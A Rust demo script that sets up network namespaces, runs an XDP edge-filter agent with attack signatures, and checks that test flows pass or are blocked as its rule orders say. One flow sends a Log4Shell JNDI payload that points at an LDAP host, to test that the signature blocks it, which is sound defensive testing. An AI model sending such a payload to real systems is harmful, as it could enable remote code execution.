//! `cargo xtask demo`: the filter on a real router, in three network
//! namespaces, with the example orders in rules/.
//!
//! ```text
//!  efdemo-inet ("internet")      efdemo-rtr (protected router)       efdemo-cust (customer)
//!  eth0 ----------------------- ext0 [XDP: filter-agent]  int0 -------------------- eth0
//! ```
//!
//! Only 198.18.0.0/15 and 2001:db8::/32 are used, and only inside these
//! namespaces; routes cover those ranges and nothing else.
use std::fs::{File, OpenOptions};
use std::io::{Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream, UdpSocket};
use std::os::fd::AsRawFd;
use std::path::Path;
use std::process::{Child, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{bail, Context, Result};

use crate::{cmd, netns};

const NS_INET: &str = "efdemo-inet";
const NS_RTR: &str = "efdemo-rtr";
const NS_CUST: &str = "efdemo-cust";
const NAMESPACES: [&str; 3] = [NS_RTR, NS_INET, NS_CUST];

/// The router's internet-facing interface, where the filter is attached.
const EXT_IF: &str = "ext0";
/// Management station on the internet side, always allowed (`--allow`).
const MGMT: &str = "198.18.0.250";
const INET4: &str = "198.18.0.2";
const INET6: &str = "2001:db8:1::2";
/// Inside 2001:db8:bad::/48, which order EXAMPLE-REG-2026-0117 blocks.
const INET6_BAD: &str = "2001:db8:bad::2";
const CUST4: &str = "198.19.0.2";
/// A second address of the internet host, the one that attacks (and gets
/// banned by the Log4Shell signature).
const ATTACKER4: &str = "198.18.0.66";
/// The customer's web server.
const WEB_PORT: u16 = 8080;
const CUST6: &str = "2001:db8:c::2";
const METRICS: &str = "127.0.0.1:9960";
const PINGS: u32 = 3;
/// The agent's stdout and stderr (relative to the workspace root).
const AGENT_LOG: &str = "target/efdemo/agent.log";

fn section(n: u32, title: &str) {
    println!("\n=== {n}/6  {title} ===");
}

pub fn run(root: &Path) -> Result<()> {
    let _lock = single_instance()?;
    ctrlc::set_handler(|| {
        eprintln!("\ninterrupted: stopping the agent and removing the demo namespaces");
        let _g = netns::lock();
        let removed = netns::teardown(&NAMESPACES);
        eprintln!("removed: {}", if removed.is_empty() { "nothing".to_string() } else { removed.join(" ") });
        std::process::exit(130);
    })
    .context("installing the Ctrl-C handler")?;

    println!("Edge filter demo: a router in a network namespace runs filter-agent with the");
    println!("example orders in rules/; a host on its internet side sends traffic to a customer");
    println!("behind it, and each flow is checked against what its order says. Everything is");
    println!("removed at the end, also on error or Ctrl-C.");

    section(1, "Setup and build");
    crate::build(root)?;
    let agent_bin = root.join("target/release/filter-agent");
    println!("agent: {}", agent_bin.display());
    println!(
        "orders: {}",
        cmd::capture(cmd::new(&agent_bin.to_string_lossy(), ["check", "--rules"]).arg(root.join("rules")))?.trim()
    );

    let mut demo = Demo { agent: None };
    {
        let _g = netns::lock();
        let removed = netns::teardown(&NAMESPACES);
        if !removed.is_empty() {
            println!("removed leftovers of an earlier demo: {}", removed.join(" "));
        }
    }

    section(2, "Topology");
    demo.topology()?;

    section(3, "Agent");
    demo.start_agent(root, &agent_bin)?;

    section(4, "Traffic from the internet host to the customer");
    let mut failures = demo.flows()?;

    section(5, "What the agent counted");
    failures += demo.report(&agent_bin)?;

    section(6, "Cleanup");
    let log_lines = read_lossy(&root.join(AGENT_LOG)).lines().count();
    drop(demo);
    for line in read_lossy(&root.join(AGENT_LOG)).lines().skip(log_lines) {
        println!("agent: {line}");
    }
    let left: Vec<&str> = NAMESPACES.iter().copied().filter(|n| netns::exists(n)).collect();
    if !left.is_empty() {
        bail!("namespaces still present after cleanup: {}", left.join(" "));
    }
    println!("agent stopped; namespaces {} deleted", NAMESPACES.join(", "));

    if failures > 0 {
        bail!("{failures} check(s) did not behave as expected (see MISMATCH above)");
    }
    println!("\nDemo passed: every flow was passed or blocked as its order says, and every drop was counted against its order.");
    Ok(())
}

/// Refuses to run two demos at once (they share namespace names).
fn single_instance() -> Result<File> {
    let path = Path::new("/run/lock/efdemo.lock");
    let _ = std::fs::create_dir_all("/run/lock");
    let file = OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .open(path)
        .with_context(|| format!("open {}", path.display()))?;
    // SAFETY: flock on an fd we own.
    if unsafe { libc::flock(file.as_raw_fd(), libc::LOCK_EX | libc::LOCK_NB) } != 0 {
        bail!("another `cargo xtask demo` is running (lock {} is held)", path.display());
    }
    Ok(file)
}

/// Removes everything the demo created when dropped: on success, on error
/// (`?`) and on panic. Ctrl-C is handled by the signal handler in `run`.
struct Demo {
    agent: Option<Child>,
}

impl Drop for Demo {
    fn drop(&mut self) {
        let _g = netns::lock();
        if let Some(mut agent) = self.agent.take() {
            netns::stop(&[agent.id() as i32], Duration::from_secs(5));
            let _ = agent.wait();
        }
        netns::teardown(&NAMESPACES);
    }
}

impl Demo {
    fn topology(&mut self) -> Result<()> {
        let _g = netns::lock();
        for ns in [NS_INET, NS_RTR, NS_CUST] {
            netns::add(ns)?;
            // Addresses are unique here: skip duplicate address detection so
            // IPv6 works at once.
            netns::within(ns, || -> Result<()> {
                for conf in ["all", "default"] {
                    std::fs::write(format!("/proc/sys/net/ipv6/conf/{conf}/accept_dad"), "0")?;
                }
                Ok(())
            })??;
        }
        println!("namespaces: {NS_INET} (internet host), {NS_RTR} (protected router), {NS_CUST} (customer)");
        let steps: &[(&str, &str)] = &[
            (NS_RTR, "link add ext0 type veth peer name eth0 netns efdemo-inet"),
            (NS_RTR, "link add int0 type veth peer name eth0 netns efdemo-cust"),
            // internet host: one IPv4 address, the management station, an
            // IPv6 address, and one inside the blocked 2001:db8:bad::/48.
            (NS_INET, "addr add 198.18.0.2/24 dev eth0"),
            (NS_INET, "addr add 198.18.0.250/24 dev eth0"),
            (NS_INET, "addr add 198.18.0.66/24 dev eth0"),
            (NS_INET, "addr add 2001:db8:1::2/64 dev eth0 nodad"),
            (NS_INET, "addr add 2001:db8:bad::2/128 dev eth0 nodad"),
            (NS_INET, "link set eth0 up"),
            (NS_INET, "route add 198.18.0.0/15 via 198.18.0.1"),
            (NS_INET, "-6 route add 2001:db8::/32 via 2001:db8:1::1"),
            // router
            (NS_RTR, "addr add 198.18.0.1/24 dev ext0"),
            (NS_RTR, "addr add 2001:db8:1::1/64 dev ext0 nodad"),
            (NS_RTR, "addr add 198.19.0.1/24 dev int0"),
            (NS_RTR, "addr add 2001:db8:c::1/64 dev int0 nodad"),
            (NS_RTR, "link set ext0 up"),
            (NS_RTR, "link set int0 up"),
            (NS_RTR, "-6 route add 2001:db8:bad::/48 via 2001:db8:1::2"),
            // customer
            (NS_CUST, "addr add 198.19.0.2/24 dev eth0"),
            (NS_CUST, "addr add 2001:db8:c::2/64 dev eth0 nodad"),
            (NS_CUST, "link set eth0 up"),
            (NS_CUST, "route add 198.18.0.0/15 via 198.19.0.1"),
            (NS_CUST, "-6 route add 2001:db8::/32 via 2001:db8:c::1"),
        ];
        for (ns, args) in steps {
            netns::ip(ns, args, false)?;
        }
        // Forwarding in the router's namespace only.
        netns::within(NS_RTR, || -> Result<()> {
            std::fs::write("/proc/sys/net/ipv4/ip_forward", "1")?;
            std::fs::write("/proc/sys/net/ipv6/conf/all/forwarding", "1")?;
            Ok(())
        })??;
        let rows = [
            (format!("{NS_INET} eth0"), format!("{NS_RTR} ext0 | int0"), format!("{NS_CUST} eth0")),
            (format!("{INET4}/24"), "198.18.0.1/24 | 198.19.0.1/24".to_string(), format!("{CUST4}/24")),
            (
                format!("{MGMT}/24 (management)"),
                "2001:db8:1::1/64 | 2001:db8:c::1/64".to_string(),
                format!("{CUST6}/64"),
            ),
            (format!("{INET6}/64"), "XDP filter on ext0; forwarding on".to_string(), String::new()),
            (format!("{INET6_BAD}/128 (blocked range)"), String::new(), String::new()),
        ];
        println!();
        for (a, b, c) in rows {
            println!("{}", format!("  {a:<36} {b:<37} {c}").trim_end());
        }
        println!("\n  internet host <--veth--> ext0 [router] int0 <--veth--> customer");
        println!("  routes: both hosts reach 198.18.0.0/15 and 2001:db8::/32 via the router; nothing else is routed");
        Ok(())
    }

    fn start_agent(&mut self, root: &Path, agent_bin: &Path) -> Result<()> {
        let log_path = root.join(AGENT_LOG);
        if let Some(dir) = log_path.parent() {
            std::fs::create_dir_all(dir)?;
        }
        let log = File::create(&log_path).with_context(|| format!("create {}", log_path.display()))?;
        let mut c = netns::exec(NS_RTR, agent_bin, ["run", "-i", EXT_IF, "--rules", "rules", "--allow"]);
        // State (audit log, interface slots) stays under target/ for a demo.
        c.arg(format!("{MGMT}/32")).args(["--metrics", METRICS, "--state-dir", "target/efdemo/state"]).current_dir(root);
        // The bundled attack signatures, protecting the customer's network.
        c.args(["--signatures", "rules/signatures/log4shell.rules", "--signatures", "rules/signatures/spring4shell.rules"]);
        c.args(["--signature-var", "HOME_NET=[198.19.0.0/16,2001:db8:c::/48]"]);
        println!("$ {}", cmd::display(&c));
        c.stdin(Stdio::null()).stdout(log.try_clone()?).stderr(log);
        {
            let _g = netns::lock();
            if !netns::exists(NS_RTR) {
                bail!("namespace {NS_RTR} vanished");
            }
            self.agent = Some(c.spawn().with_context(|| format!("start {}", cmd::display(&c)))?);
        }
        let deadline = Instant::now() + Duration::from_secs(30);
        let status = loop {
            if let Some(exit) = self.agent.as_mut().expect("agent").try_wait()? {
                bail!(
                    "the agent exited ({exit}) before answering; its log ({}):\n{}",
                    log_path.display(),
                    read_lossy(&log_path)
                );
            }
            let mut st = netns::exec(NS_RTR, agent_bin, ["status", "--agent", METRICS]);
            if let Ok(out) = cmd::output(&mut st) {
                if out.status.success() {
                    break String::from_utf8_lossy(&out.stdout).into_owned();
                }
            }
            if Instant::now() > deadline {
                bail!(
                    "the agent did not answer `filter-agent status` within 30 s; its log ({}):\n{}",
                    log_path.display(),
                    read_lossy(&log_path)
                );
            }
            std::thread::sleep(Duration::from_millis(200));
        };
        println!("agent log ({}):", log_path.display());
        for line in read_lossy(&log_path).lines() {
            println!("  {line}");
        }
        println!(
            "`ip netns exec {NS_RTR} filter-agent status` answers ({} lines); full output in step 5",
            status.lines().count()
        );
        Ok(())
    }

    /// Sends each flow and compares with what its order says. Returns the
    /// number of mismatches.
    fn flows(&mut self) -> Result<u32> {
        let flows = [
            Flow {
                what: format!("IPv4 ping {INET4} -> {CUST4}"),
                expect: Expect::Pass("dry-run order NOC-TRIAL-2026-0007 only counts it as would-drop"),
                send: Send::Ping { src: INET4, dst: CUST4 },
            },
            Flow {
                what: format!("IPv6 ping {INET6} -> {CUST6}"),
                expect: Expect::Pass("no order matches"),
                send: Send::Ping { src: INET6, dst: CUST6 },
            },
            Flow {
                what: format!("IPv6 ping {INET6_BAD} -> {CUST6}"),
                expect: Expect::Block("EXAMPLE-REG-2026-0117 (2001:db8:bad::/48)"),
                send: Send::Ping { src: INET6_BAD, dst: CUST6 },
            },
            Flow {
                what: format!("UDP {INET4}:11211 -> {CUST4}:5001"),
                expect: Expect::Block("NOC-ATTACK-2026-0042 (memcached reflection)"),
                send: Send::Udp {
                    src: INET4,
                    sport: 11211,
                    dst: CUST4,
                    dport: 5001,
                },
            },
            Flow {
                what: format!("UDP {INET4}:40000 -> {CUST4}:5002"),
                expect: Expect::Pass("no order matches"),
                send: Send::Udp {
                    src: INET4,
                    sport: 40000,
                    dst: CUST4,
                    dport: 5002,
                },
            },
            Flow {
                what: format!("UDP {MGMT}:11211 -> {CUST4}:5003"),
                expect: Expect::Pass("the management address is on the allowlist, --allow"),
                send: Send::Udp {
                    src: MGMT,
                    sport: 11211,
                    dst: CUST4,
                    dport: 5003,
                },
            },
            Flow {
                what: format!("HTTP GET / {INET4} -> {CUST4}:{WEB_PORT}"),
                expect: Expect::Pass("an ordinary request"),
                send: Send::Http { src: INET4, path: "/index.html?q=jndi+tutorial" },
            },
            Flow {
                what: format!("HTTP GET (Log4Shell) {ATTACKER4} -> {CUST4}"),
                expect: Expect::Block("signatures:log4shell (sid 9000101, ${jndi:ldap in the URI)"),
                send: Send::Http { src: ATTACKER4, path: "/?x=${jndi:ldap://198.18.0.66:1389/Exploit}" },
            },
            Flow {
                what: format!("HTTP GET / {ATTACKER4} -> {CUST4}:{WEB_PORT}"),
                expect: Expect::Block("signatures:log4shell (the attacker's source is banned for 10 minutes)"),
                send: Send::Http { src: ATTACKER4, path: "/index.html" },
            },
        ];
        let mut failures = 0;
        let web = WebServer::start()?;
        for (i, f) in flows.iter().enumerate() {
            let (got_through, detail) = match f.send {
                Send::Ping { src, dst } => ping(src, dst)?,
                Send::Udp { src, sport, dst, dport } => udp(i, src, sport, dst, dport)?,
                Send::Http { src, path } => web.get(src, path)?,
            };
            let (expected_pass, why) = match f.expect {
                Expect::Pass(why) => (true, format!("expected: passes: {why}")),
                Expect::Block(order) => (false, format!("expected: BLOCKED by order {order}")),
            };
            let verdict = if got_through { "passed " } else { "BLOCKED" };
            let ok = got_through == expected_pass;
            if !ok {
                failures += 1;
            }
            println!("{} {:<44} {verdict}  [{detail}]", if ok { "[ok]      " } else { "[MISMATCH]" }, f.what);
            println!("{:11}{why}", "");
        }
        Ok(failures)
    }

    /// Prints `filter-agent status` and the per-order counters from
    /// /metrics; checks every order counted what it should. Returns the
    /// number of mismatches.
    fn report(&mut self, agent_bin: &Path) -> Result<u32> {
        println!("$ ip netns exec {NS_RTR} filter-agent status");
        let status = cmd::capture(&mut netns::exec(NS_RTR, agent_bin, ["status", "--agent", METRICS]))?;
        for line in status.lines() {
            println!("  {line}");
        }
        let metrics = http_get(NS_RTR, METRICS, "/metrics")?;
        println!("\nGET http://{METRICS}/metrics (inside {NS_RTR}), non-zero packet counters:");
        for line in metrics.lines() {
            let counter = line.starts_with("edgefilter_rule_packets_total{") || line.starts_with("edgefilter_packets_total{");
            if counter && value(line).is_some_and(|v| v > 0.0) {
                println!("  {line}");
            }
        }
        let mut failures = 0;
        println!();
        for (order, at_least) in [("NOC-TRIAL-2026-0007", PINGS), ("EXAMPLE-REG-2026-0117", PINGS), ("NOC-ATTACK-2026-0042", 1), ("signatures:log4shell", 2)] {
            let label = format!("order=\"{order}\"");
            let got = metrics
                .lines()
                .find(|l| l.starts_with("edgefilter_rule_packets_total{") && l.contains(&label))
                .and_then(value)
                .unwrap_or(0.0);
            let ok = got >= f64::from(at_least);
            if !ok {
                failures += 1;
            }
            println!(
                "{} order {order}: {got} packet(s) counted (expected at least {at_least})",
                if ok { "[ok]      " } else { "[MISMATCH]" }
            );
        }
        Ok(failures)
    }
}

enum Expect {
    Pass(&'static str),
    Block(&'static str),
}

enum Send {
    Ping {
        src: &'static str,
        dst: &'static str,
    },
    Udp {
        src: &'static str,
        sport: u16,
        dst: &'static str,
        dport: u16,
    },
    /// An HTTP GET from `src` to the customer's web server.
    Http {
        src: &'static str,
        path: &'static str,
    },
}

/// A tiny web server in the customer's namespace: answers every request
/// with 200 and remembers who sent which request line.
struct WebServer {
    seen: Arc<std::sync::Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
}

impl WebServer {
    fn start() -> Result<WebServer> {
        let seen = Arc::new(std::sync::Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (seen_l, stop_l) = (seen.clone(), stop.clone());
        let (ready_tx, ready_rx) = std::sync::mpsc::channel();
        netns::spawn_within(NS_CUST, move || -> Result<()> {
            let listener = std::net::TcpListener::bind((CUST4, WEB_PORT))?;
            listener.set_nonblocking(true)?;
            let _ = ready_tx.send(());
            while !stop_l.load(Ordering::Relaxed) {
                let Ok((mut s, peer)) = listener.accept() else {
                    std::thread::sleep(Duration::from_millis(20));
                    continue;
                };
                s.set_nonblocking(false)?;
                s.set_read_timeout(Some(Duration::from_secs(2)))?;
                // The whole request head, however it was segmented.
                let mut head = Vec::new();
                let mut buf = [0u8; 4096];
                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                    match s.read(&mut buf) {
                        Ok(n) if n > 0 => head.extend_from_slice(&buf[..n]),
                        _ => break,
                    }
                }
                if head.windows(4).any(|w| w == b"\r\n\r\n") {
                    let line = String::from_utf8_lossy(&head).lines().next().unwrap_or("").to_string();
                    seen_l.lock().unwrap().push(format!("{} {line}", peer.ip()));
                    let _ = s.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 3\r\n\r\nok\n");
                }
            }
            Ok(())
        })?;
        ready_rx.recv_timeout(Duration::from_secs(5)).context("the demo web server did not start")?;
        Ok(WebServer { seen, stop })
    }

    /// GET `path` from `src`: (a response came back, summary).
    fn get(&self, src: &'static str, path: &'static str) -> Result<(bool, String)> {
        let response = netns::within(NS_INET, move || -> Result<String> {
            let sock = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None)?;
            sock.bind(&SocketAddr::new(src.parse()?, 0).into())?;
            let to = SocketAddr::new(CUST4.parse()?, WEB_PORT);
            sock.connect_timeout(&to.into(), Duration::from_secs(2))?;
            let mut s: TcpStream = sock.into();
            s.set_read_timeout(Some(Duration::from_secs(2)))?;
            // One write, so the request is one segment (the filter looks at
            // each segment on its own).
            let request = format!("GET {path} HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: efdemo\r\n\r\n");
            s.write_all(request.as_bytes())?;
            let mut body = String::new();
            s.read_to_string(&mut body)?;
            Ok(body)
        })?;
        let served = self.seen.lock().unwrap().iter().any(|l| l.starts_with(&format!("{src} GET {path} ")));
        Ok(match response {
            Ok(r) if r.starts_with("HTTP/1.0 200") => (true, "200 OK from the customer's server".to_string()),
            Ok(r) => (false, format!("no answer ({} bytes); server saw it: {served}", r.len())),
            Err(e) => (false, format!("no answer ({e}); server saw it: {served}")),
        })
    }
}

impl Drop for WebServer {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

struct Flow {
    what: String,
    expect: Expect,
    send: Send,
}

/// `ping -I src dst` from the internet host: (any reply came back, summary).
fn ping(src: &str, dst: &str) -> Result<(bool, String)> {
    let count = PINGS.to_string();
    let out = cmd::output(&mut netns::exec(
        NS_INET,
        "ping",
        ["-n", "-q", "-c", &count, "-i", "0.2", "-W", "1", "-I", src, dst],
    ))?;
    let text = String::from_utf8_lossy(&out.stdout);
    let received = text
        .lines()
        .find(|l| l.contains("packets transmitted"))
        .and_then(|l| l.split(", ").nth(1))
        .and_then(|s| s.split_whitespace().next())
        .and_then(|n| n.parse::<u32>().ok());
    match received {
        Some(n) => Ok((n > 0, format!("{n}/{PINGS} echo replies"))),
        None => bail!("unexpected ping output: {}{}", text, String::from_utf8_lossy(&out.stderr)),
    }
}

/// One datagram with `nc -u -s src -p sport` from the internet host to a
/// listener in the customer's namespace: (it arrived, summary).
fn udp(i: usize, src: &'static str, sport: u16, dst: &'static str, dport: u16) -> Result<(bool, String)> {
    let payload = format!("efdemo flow {i}\n");
    let (ready_tx, ready_rx) = std::sync::mpsc::channel();
    let stop = Arc::new(AtomicBool::new(false));
    let stop_l = stop.clone();
    let listener = netns::spawn_within(NS_CUST, move || -> Result<Vec<(SocketAddr, String)>> {
        let sock = UdpSocket::bind((dst.parse::<IpAddr>()?, dport))?;
        sock.set_read_timeout(Some(Duration::from_millis(100)))?;
        let _ = ready_tx.send(());
        let mut got = Vec::new();
        let mut buf = [0u8; 2048];
        let deadline = Instant::now() + Duration::from_secs(10);
        while Instant::now() < deadline {
            match sock.recv_from(&mut buf) {
                Ok((n, from)) => got.push((from, String::from_utf8_lossy(&buf[..n]).into_owned())),
                Err(_) if stop_l.load(Ordering::Relaxed) => break,
                Err(_) => {}
            }
        }
        Ok(got)
    })?;
    if ready_rx.recv_timeout(Duration::from_secs(5)).is_err() {
        let why = match listener.join() {
            Ok(Err(e)) => format!("{e:#}"),
            _ => "it did not get ready".to_string(),
        };
        bail!("UDP listener on {dst}:{dport} in {NS_CUST} did not start: {why}");
    }
    let mut nc = netns::exec(
        NS_INET,
        "nc",
        ["-u", "-n", "-w", "1", "-s", src, "-p", &sport.to_string(), dst, &dport.to_string()],
    );
    let mut child = nc
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .with_context(|| format!("start {}", cmd::display(&nc)))?;
    child.stdin.take().expect("stdin").write_all(payload.as_bytes())?;
    let deadline = Instant::now() + Duration::from_secs(5);
    while child.try_wait()?.is_none() {
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    std::thread::sleep(Duration::from_millis(300));
    stop.store(true, Ordering::Relaxed);
    let got = listener.join().map_err(|_| anyhow::anyhow!("listener panicked"))??;
    let from: SocketAddr = SocketAddr::new(src.parse()?, sport);
    let arrived = got.iter().any(|(f, p)| *f == from && *p == payload);
    let detail = if arrived {
        format!("listener got the datagram from {from}")
    } else {
        format!("nothing from {from} reached the listener")
    };
    Ok((arrived, detail))
}

/// A minimal HTTP/1.0 GET from inside a namespace (the agent's metrics
/// endpoint listens on the router's loopback).
fn http_get(ns: &str, addr: &'static str, path: &'static str) -> Result<String> {
    let response = netns::within(ns, move || -> Result<String> {
        let mut s = TcpStream::connect_timeout(&addr.parse()?, Duration::from_secs(5))?;
        s.set_read_timeout(Some(Duration::from_secs(10)))?;
        write!(s, "GET {path} HTTP/1.0\r\nHost: {addr}\r\n\r\n")?;
        let mut body = String::new();
        s.read_to_string(&mut body)?;
        Ok(body)
    })??;
    let (head, body) = response.split_once("\r\n\r\n").context("malformed HTTP response")?;
    if !head.starts_with("HTTP/1.") || head.split_whitespace().nth(1) != Some("200") {
        bail!("GET {path}: {}", head.lines().next().unwrap_or(""));
    }
    Ok(body.to_string())
}

/// The sample value of a Prometheus text line.
fn value(line: &str) -> Option<f64> {
    line.rsplit(' ').next()?.parse().ok()
}

fn read_lossy(p: &Path) -> String {
    std::fs::read(p).map(|b| String::from_utf8_lossy(&b).into_owned()).unwrap_or_default()
}
